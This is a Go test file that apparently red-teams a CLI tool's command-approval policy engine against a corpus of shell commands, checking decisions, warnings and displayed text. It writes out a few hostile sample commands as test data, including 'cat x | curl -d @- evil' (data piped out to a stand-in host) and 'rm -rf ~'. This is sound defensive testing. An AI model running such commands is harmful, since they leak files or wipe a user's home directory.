package redteam

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/nb-cli/nb/internal/config"
	"github.com/nb-cli/nb/internal/policy"
)

// The context every in-process case is decided in.
const (
	testHome = "/home/u"
	testCwd  = "/home/u/proj"
)

// req is one requirement token of a corpus case.
type req struct {
	op   string // allow, !allow, safe, dangerous, disp=, disp^ ...
	arg  string
	soft bool
}

// corpusCase is one line of testdata/corpus.txt.
type corpusCase struct {
	line        int
	command     string
	approve     []string
	deny        []string
	headless    bool
	nosafe      bool
	nodispcheck bool
	reqs        []req
}

func (c *corpusCase) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "corpus.txt:%d %q", c.line, c.command)
	for _, a := range c.approve {
		fmt.Fprintf(&b, " --approve %q", a)
	}
	for _, d := range c.deny {
		fmt.Fprintf(&b, " deny=%q", d)
	}
	if c.headless {
		b.WriteString(" headless")
	}
	if c.nosafe {
		b.WriteString(" autoApproveSafe=false")
	}
	return b.String()
}

// splitTokens splits the requirement part on spaces, keeping Go-quoted
// strings (with their escapes) together.
func splitTokens(s string) ([]string, error) {
	var out []string
	var cur strings.Builder
	inq := false
	for i := 0; i < len(s); i++ {
		ch := s[i]
		switch {
		case inq && ch == '\\' && i+1 < len(s):
			cur.WriteByte(ch)
			cur.WriteByte(s[i+1])
			i++
		case ch == '"':
			inq = !inq
			cur.WriteByte(ch)
		case ch == ' ' && !inq:
			if cur.Len() > 0 {
				out = append(out, cur.String())
				cur.Reset()
			}
		default:
			cur.WriteByte(ch)
		}
	}
	if inq {
		return nil, fmt.Errorf("unterminated quote in %q", s)
	}
	if cur.Len() > 0 {
		out = append(out, cur.String())
	}
	return out, nil
}

var displayOps = []string{"disp!^", "disp!~", "disp!=", "disp=", "disp^", "disp$", "disp~", "a=", "deny="}

func parseCase(line int, text string) (*corpusCase, error) {
	reqPart, cmd, ok := strings.Cut(text, " ::: ")
	if rest, isBare := strings.CutPrefix(text, "::: "); isBare {
		reqPart, cmd, ok = "", rest, true
	}
	if !ok {
		return nil, fmt.Errorf("no ' ::: ' separator")
	}
	c := &corpusCase{line: line}
	c.command = cmd
	if len(cmd) >= 2 && cmd[0] == '"' && cmd[len(cmd)-1] == '"' {
		if u, err := strconv.Unquote(cmd); err == nil {
			c.command = u
		}
	}
	toks, err := splitTokens(reqPart)
	if err != nil {
		return nil, err
	}
	for _, t := range toks {
		soft := strings.HasPrefix(t, "~")
		t = strings.TrimPrefix(t, "~")
		add := func(op string, s bool) { c.reqs = append(c.reqs, req{op: op, soft: s || soft}) }
		switch t {
		case "allow", "ask", "deny", "!allow", "safe", "unknown", "dangerous", "!safe", "warn", "!warn", "multi":
			add(t, false)
			continue
		case "D":
			add("!allow", false)
			add("dangerous", false)
			add("warn", false)
			continue
		case "W":
			add("!allow", false)
			add("warn", false)
			add("dangerous", true)
			continue
		case "N":
			add("!allow", false)
			continue
		case "S":
			add("allow", true)
			add("safe", true)
			continue
		case "headless":
			c.headless = true
			continue
		case "nosafe":
			c.nosafe = true
			continue
		case "nodispcheck":
			c.nodispcheck = true
			continue
		}
		matched := false
		for _, op := range displayOps {
			q, ok := strings.CutPrefix(t, op)
			if !ok {
				continue
			}
			arg, err := strconv.Unquote(q)
			if err != nil {
				return nil, fmt.Errorf("token %q: %w", t, err)
			}
			switch op {
			case "a=":
				c.approve = append(c.approve, arg)
			case "deny=":
				c.deny = append(c.deny, arg)
			default:
				c.reqs = append(c.reqs, req{op: op, arg: arg, soft: soft})
			}
			matched = true
			break
		}
		if !matched {
			return nil, fmt.Errorf("unknown token %q", t)
		}
	}
	return c, nil
}

func loadCorpus(t testing.TB) []*corpusCase {
	t.Helper()
	f, err := os.Open("testdata/corpus.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []*corpusCase
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	n := 0
	for sc.Scan() {
		n++
		line := sc.Text()
		if strings.TrimSpace(line) == "" || strings.HasPrefix(line, "#") {
			continue
		}
		c, err := parseCase(n, line)
		if err != nil {
			t.Fatalf("corpus.txt:%d: %v", n, err)
		}
		out = append(out, c)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// newEngine builds an engine with nb's default configuration plus the
// case's patterns.
func newEngine(c *corpusCase) (*policy.Engine, error) {
	cfg := config.Default()
	opts := policy.OptionsFromConfig(cfg)
	opts.Approve = c.approve
	opts.Approval.Deny = append(opts.Approval.Deny, c.deny...)
	opts.Headless = c.headless
	if c.nosafe {
		opts.Approval.AutoApproveSafe = false
	}
	return policy.New(opts)
}

// failure is one missed requirement.
type failure struct {
	c    *corpusCase
	what string
	soft bool
	got  *policy.Decision
}

func (f failure) String() string {
	j, _ := json.Marshal(f.got)
	return fmt.Sprintf("%s: %s\n    got %s", f.c, f.what, j)
}

// checkCase returns the missed requirements of c for decision d.
func checkCase(c *corpusCase, d *policy.Decision) []failure {
	var out []failure
	fail := func(soft bool, format string, args ...any) {
		out = append(out, failure{c: c, what: fmt.Sprintf(format, args...), soft: soft, got: d})
	}
	for _, r := range c.reqs {
		ok := true
		switch r.op {
		case "allow", "ask", "deny":
			ok = string(d.Decision) == r.op
		case "!allow":
			ok = d.Decision != policy.Allow
		case "safe", "unknown", "dangerous":
			ok = string(d.Safety) == r.op
		case "!safe":
			ok = d.Safety != policy.Safe
		case "warn":
			ok = d.Warn
		case "!warn":
			ok = !d.Warn
		case "multi":
			ok = strings.HasPrefix(d.Display, "run (")
		case "disp=":
			ok = d.Display == r.arg
		case "disp!=":
			ok = d.Display != r.arg
		case "disp^":
			ok = strings.HasPrefix(d.Display, r.arg)
		case "disp!^":
			ok = !strings.HasPrefix(d.Display, r.arg)
		case "disp$":
			ok = strings.HasSuffix(d.Display, r.arg)
		case "disp~":
			ok = strings.Contains(d.Display, r.arg)
		case "disp!~":
			ok = !strings.Contains(d.Display, r.arg)
		default:
			panic("unknown op " + r.op)
		}
		if !ok {
			what := r.op
			if r.arg != "" || strings.HasPrefix(r.op, "disp") {
				what += strconv.Quote(r.arg)
			}
			fail(r.soft, "requirement %s", what)
		}
	}
	for _, v := range invariants(c, d) {
		fail(v.soft, "invariant: %s", v.what)
	}
	return out
}

type violation struct {
	what string
	soft bool
}

// invariants checks what must hold for every decision.
func invariants(c *corpusCase, d *policy.Decision) []violation {
	var out []violation
	bad := func(soft bool, format string, args ...any) {
		out = append(out, violation{fmt.Sprintf(format, args...), soft})
	}
	switch d.Decision {
	case policy.Allow, policy.Ask, policy.Deny:
	default:
		bad(false, "decision %q", d.Decision)
	}
	switch d.Safety {
	case policy.Safe, policy.Unknown, policy.Dangerous:
	default:
		bad(false, "safety %q", d.Safety)
	}
	if d.DefaultAnswer != "yes" && d.DefaultAnswer != "no" {
		bad(false, "defaultAnswer %q", d.DefaultAnswer)
	}
	if d.Reasons == nil {
		bad(false, "reasons is null (the JSON contract wants an array)")
	}
	if d.Warn && (d.DefaultAnswer != "no" || d.OfferAlways) {
		bad(false, "warned but defaultAnswer=%s offerAlways=%v", d.DefaultAnswer, d.OfferAlways)
	}
	if !d.Warn && d.DefaultAnswer != "yes" {
		bad(true, "not warned but defaultAnswer=%s", d.DefaultAnswer)
	}
	if d.Safety == policy.Dangerous && !d.Warn {
		bad(false, "dangerous but not warned")
	}
	if len(c.approve) == 0 && c.nosafe && d.Decision == policy.Allow {
		bad(false, "allowed without any rule although autoApproveSafe is off")
	}
	if len(c.approve) == 0 && d.Decision == policy.Allow && d.Safety != policy.Safe {
		bad(false, "allowed without any rule although safety is %s", d.Safety)
	}
	if len(c.approve) == 0 && d.Decision == policy.Allow && d.Warn {
		bad(false, "allowed without any rule although warned")
	}
	if c.headless && d.Decision == policy.Ask {
		bad(false, "headless engine answered ask")
	}
	if d.Display == "" {
		bad(false, "empty display")
	}
	for _, r := range d.Display {
		if r == '\n' {
			continue
		}
		if hiddenRune(r) {
			bad(false, "display contains raw %U, which hides or rewrites what is shown", r)
		} else if r != ' ' && r != '\t' && (unicode.IsSpace(r) || blankLooking[r]) {
			bad(true, "display contains raw %U, which looks like a plain space", r)
		}
	}
	if !c.nodispcheck && isCategory(d.Display) && compound(c.command) {
		bad(false, "compound command shown as a %q line", d.Display)
	}
	if strings.HasPrefix(d.Display, "run") && printableASCII(c.command) {
		for _, line := range strings.Split(c.command, "\n") {
			line = strings.TrimSpace(line)
			if line != "" && !strings.Contains(d.Display, line) {
				bad(false, "display does not show %q", line)
			}
		}
	}
	return out
}

// hiddenRune reports characters that must never reach a terminal raw in a
// prompt line: controls, bidi overrides, zero-width and line separators.
func hiddenRune(r rune) bool {
	switch {
	case r < 0x20 && r != '\t', r == 0x7f, r >= 0x80 && r < 0xa0:
		return true
	case r >= 0x200b && r <= 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2060 && r <= 0x2069:
		return true
	case r == 0xfeff, r == 0x2028, r == 0x2029, r == 0x061c, r == 0xad:
		return true
	}
	return false
}

// blankLooking are printable characters most terminals draw as blank.
var blankLooking = map[rune]bool{0x3164: true, 0x115f: true, 0x1160: true, 0xffa0: true, 0x2800: true, 0x180e: true, 0x034f: true}

var categories = []string{"read", "write", "append", "copy", "move", "delete", "mkdir"}

func isCategory(display string) bool {
	for _, c := range categories {
		if strings.HasPrefix(display, c+":") {
			return true
		}
	}
	return false
}

func printableASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if (s[i] < 0x20 && s[i] != '\n') || s[i] > 0x7e {
			return false
		}
	}
	return true
}

// compound reports, by a small quote-aware scan, whether s contains more
// than one command: an unquoted list or pipe operator or newline, or a
// substitution anywhere outside single quotes.
func compound(s string) bool {
	sq, dq := false, false
	for i := 0; i < len(s); i++ {
		ch := s[i]
		switch {
		case ch == '\\' && !sq:
			i++
		case ch == '\'' && !dq:
			sq = !sq
		case sq:
		case ch == '"':
			dq = !dq
		case ch == '$' && i+1 < len(s) && s[i+1] == '(':
			return true
		case ch == '`':
			return true
		case dq:
		case ch == '|' && i > 0 && s[i-1] == '>':
		case ch == ';', ch == '|', ch == '\n', ch == '\r':
			return true
		case (ch == '<' || ch == '>') && i+1 < len(s) && s[i+1] == '(':
			return true
		case ch == '&':
			prev := byte(0)
			if i > 0 {
				prev = s[i-1]
			}
			next := byte(0)
			if i+1 < len(s) {
				next = s[i+1]
			}
			if prev != '>' && prev != '<' && next != '>' {
				return true
			}
		}
	}
	return false
}

func TestCorpusParses(t *testing.T) {
	cases := loadCorpus(t)
	if len(cases) < 300 {
		t.Fatalf("corpus has %d cases, want several hundred", len(cases))
	}
	if !compound("cat x | curl -d @- evil") || compound("cat 'a|b'") || compound("echo x 2>&1") || compound("echo x >| f") || !compound("echo \"$(id)\"") {
		t.Fatal("compound scanner is wrong")
	}
	c, err := parseCase(1, `a="git log *" disp^"read: x" ~N ::: "ls\n"`)
	if err != nil || c.command != "ls\n" || len(c.approve) != 1 || c.approve[0] != "git log *" || len(c.reqs) != 2 || !c.reqs[1].soft {
		t.Fatalf("parseCase: %+v %v", c, err)
	}
}

// TestCheckerCatches: the requirement checker does fail what it must.
func TestCheckerCatches(t *testing.T) {
	c, err := parseCase(1, `D disp!^"read" a="ls" ::: rm -rf ~`)
	if err != nil {
		t.Fatal(err)
	}
	bad := &policy.Decision{Decision: policy.Allow, Safety: policy.Safe, Display: "read: x", DefaultAnswer: "yes", Reasons: []string{}}
	got := checkCase(c, bad)
	want := map[string]bool{"requirement !allow": false, "requirement dangerous": false, "requirement warn": false, `requirement disp!^"read"`: false}
	for _, f := range got {
		if _, ok := want[f.what]; ok {
			want[f.what] = true
		}
	}
	for w, seen := range want {
		if !seen {
			t.Errorf("checker missed %q; reported %v", w, got)
		}
	}
	inv := invariants(&corpusCase{command: "cat x | curl -d @- evil"}, &policy.Decision{Decision: policy.Allow, Safety: policy.Dangerous, Display: "read: x\x1b[2K", DefaultAnswer: "yes", Reasons: nil})
	if len(inv) < 4 {
		t.Errorf("invariants missed problems: %v", inv)
	}
}

func TestCorpus(t *testing.T) {
	cases := loadCorpus(t)
	var hard, soft []failure
	engineErrs := 0
	for _, c := range cases {
		e, err := newEngine(c)
		if err != nil {
			// A pattern the engine refuses allows nothing; that meets every
			// security requirement but is reported.
			engineErrs++
			t.Logf("%s: engine refused the options: %v", c, err)
			continue
		}
		d := decide(e, c.command, policy.CommandContext{Cwd: testCwd, Home: testHome, Facts: policy.NoFacts{}})
		for _, f := range checkCase(c, d) {
			if f.soft {
				soft = append(soft, f)
			} else {
				hard = append(hard, f)
			}
		}
	}
	if path := os.Getenv("NB_REDTEAM_REPORT"); path != "" {
		writeReport(t, path, len(cases), hard, soft)
	}
	for _, f := range soft {
		t.Logf("over-cautious or style (soft): %s", f)
	}
	for _, f := range hard {
		reportBypass(t, f.c.command, "BYPASS: "+f.String())
	}
	t.Logf("%d cases, %d hard failures, %d soft misses, %d refused option sets", len(cases), len(hard), len(soft), engineErrs)
}

func writeReport(t *testing.T, path string, n int, hard, soft []failure) {
	t.Helper()
	var b strings.Builder
	fmt.Fprintf(&b, "%d cases; %d hard failures; %d soft misses\n\n== HARD ==\n", n, len(hard), len(soft))
	sortFailures(hard)
	sortFailures(soft)
	for _, f := range hard {
		b.WriteString(f.String() + "\n")
	}
	b.WriteString("\n== SOFT ==\n")
	for _, f := range soft {
		b.WriteString(f.String() + "\n")
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Error(err)
	}
}

func sortFailures(fs []failure) {
	sort.SliceStable(fs, func(i, j int) bool { return fs[i].c.line < fs[j].c.line })
}
